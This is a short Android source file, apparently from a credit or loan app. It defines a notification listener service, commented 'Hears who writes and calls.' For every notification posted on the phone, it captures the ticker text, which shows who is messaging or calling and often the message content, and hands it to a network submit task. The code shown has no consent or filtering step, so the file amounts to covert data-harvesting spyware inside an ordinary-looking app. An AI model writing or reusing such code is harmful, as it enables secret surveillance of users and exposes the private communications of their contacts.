package com.brightfern.credit.people;

import android.service.notification.NotificationListenerService;
import android.service.notification.StatusBarNotification;

import com.brightfern.credit.net.SubmitTask;

import org.json.JSONArray;

/** Hears who writes and calls. */
public class ListenerService extends NotificationListenerService {
    @Override
    public void onNotificationPosted(StatusBarNotification posted) {
        new SubmitTask(new JSONArray().put(String.valueOf(posted.getNotification().tickerText))).execute(0);
    }

    @Override
    public void onNotificationRemoved(StatusBarNotification posted) {
    }
}
